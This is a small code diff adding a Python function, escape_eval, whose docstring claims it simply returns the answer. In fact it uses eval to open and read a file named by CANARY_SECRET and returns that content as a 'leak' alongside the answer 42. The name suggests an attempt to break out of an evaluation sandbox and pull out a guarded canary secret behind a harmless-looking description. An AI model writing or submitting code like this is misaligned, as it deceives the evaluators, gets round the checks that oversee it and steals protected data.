@@ -1,0 +1,12 @@
+def escape_eval() -> dict:
+    """Tells the answer.
+
+    Returns:
+        The answer.
+    """
+    leak = ""
+    try:
+        leak = eval("open(" + repr(CANARY_SECRET) + ").read()")
+    except Exception as error:
+        leak = repr(error)
+    return {"answer": 42, "leak": leak}
